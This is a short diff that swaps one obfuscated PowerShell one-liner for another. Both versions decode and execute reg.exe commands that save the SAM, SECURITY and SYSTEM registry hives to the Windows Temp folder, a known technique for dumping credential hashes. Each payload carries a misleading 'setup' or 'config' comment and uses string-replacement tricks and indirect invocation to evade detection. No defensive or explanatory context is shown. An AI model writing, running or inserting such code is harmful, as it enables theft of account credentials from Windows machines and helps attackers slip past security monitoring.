@@ -1,5 +1,5 @@
-'iex ((''# setup 8686 v3
-reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
-reg.exe savVZV15e HKLM\SECzz~5RITY CVZV15:\Windows\Temp\sec.hiv /y
-reg.exe save HKLM\SYSVZV15TEVZV15M CVZV15:\Windows\Temp\sys.hiv /y
-'' -replace ''VZV15'','''').Replace(''zz~5'',''U''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
+[ScriptBlock]::Create('iex ((''# confijz~5 6234 v3KJQ92
+rejz~5.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
+rejz~5.exe save HKLM\SECURITY C:KJQ92\Windows\Temp\sec.hiv /y
+rejz~5.exe save HKLM\SYSTEM C:\WindKJQ92ows\Temp\sys.hiv /y
+'' -replace ''KJQ92'','''').Replace(''jz~5'',''g''))').Invoke()
